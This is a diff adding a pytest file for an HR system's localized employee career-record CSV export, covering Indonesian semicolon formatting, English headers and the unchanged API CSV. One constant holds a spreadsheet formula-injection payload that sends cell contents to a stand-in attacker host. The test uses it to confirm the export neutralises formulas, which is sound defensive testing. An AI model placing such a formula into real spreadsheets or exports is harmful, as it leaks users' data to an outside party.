@@ -1,0 +1,74 @@
+"""The career record's download (/pages/employees/<NIP>/record.csv) opens in columns in a spreadsheet in the page's
+language (acceptance walk of 2026-12-02, F13: it was comma-separated, with English headers and every value in one JSON
+cell, so Excel set to Indonesian, whose list separator is the semicolon, opened it as a single column). The API's CSV
+and `careerlog export` stay as they are: machine-readable."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+
+from tests import factories as f
+from tests.functional.conftest import BUDI, World
+from tests.functional.test_pages_auth import log_in
+from tests.functional.test_pages_career import corrected_and_trained
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
+
+
+@pytest.fixture
+def store_url(database_url: str) -> str:
+    """Both stores: SQLite and PostgreSQL."""
+    return database_url
+
+
+def download(world: World, lang: str) -> tuple[str, list[dict[str, str]]]:
+    answer = world.client.get(f"/pages/employees/{BUDI}/record.csv?lang={lang}")
+    assert answer.status_code == 200
+    assert answer.mimetype == "text/csv"
+    text = answer.get_data(as_text=True)
+    assert text.startswith("\ufeff")  # UTF-8 with a byte-order mark: the spreadsheet reads the names right
+    delimiter = ";" if lang == "id" else ","
+    return text, list(csv.DictReader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter))
+
+
+def test_the_record_csv_in_indonesian_is_separated_by_semicolons_with_a_column_per_field(world: World) -> None:
+    corrected_and_trained(world)
+    training = {**f.training("2024-05-10", hours=16, start="2024-05-06", cost="1500000.50"), "reference": FORMULA}
+    world.services.ledger.record(BUDI, "training", training, actor="test")
+    world.catch_up()
+    log_in(world, "hr")
+    text, rows = download(world, "id")
+    header = text.lstrip("\ufeff").splitlines()[0].split(";")
+    assert header[:4] == ["Tanggal berlaku (TMT)", "Dicatat pada (UTC)", "Peristiwa", "Nomor SK atau sertifikat"]
+    assert "values" not in header
+    assert "{" not in text
+    promotion = next(r for r in rows if r["Peristiwa"] == "Kenaikan pangkat")
+    assert promotion["Tanggal berlaku (TMT)"] == "2014-04-01"  # a date a spreadsheet reads in any language
+    assert promotion["Pangkat baru"] == "III/c (Penata)"
+    assert promotion["Dikoreksi pada (UTC)"]
+    trainings = [r for r in rows if r["Peristiwa"] == "Pelatihan"]
+    assert any(r["Dibatalkan pada (UTC)"] for r in trainings)
+    costly = next(r for r in trainings if r["Biaya (rupiah)"])
+    assert costly["Biaya (rupiah)"] == "1500000,50"  # a decimal comma, as the Indonesian spreadsheet reads a number
+    assert costly["Tanggal mulai"] == "2024-05-06"
+    assert costly["Nomor SK atau sertifikat"] == "'" + FORMULA  # never run as a formula (careerlog/spreadsheet.py)
+
+
+def test_the_record_csv_in_english_is_comma_separated_with_english_headers(world: World) -> None:
+    corrected_and_trained(world)
+    log_in(world, "hr")
+    _text, rows = download(world, "en")
+    promotion = next(r for r in rows if r["Event"] == "Rank promotion")
+    assert promotion["Effective date (TMT)"] == "2014-04-01"
+    assert promotion["New rank"] == "III/c (Penata)"
+
+
+def test_the_apis_timeline_csv_is_unchanged(world: World) -> None:
+    corrected_and_trained(world)
+    answer = world.get(f"/api/v1/employees/{BUDI}/timeline?format=csv", "admin")
+    header = answer.get_data(as_text=True).lstrip("\ufeff").splitlines()[0]
+    assert ";" not in header
+    assert "effective_date" in header
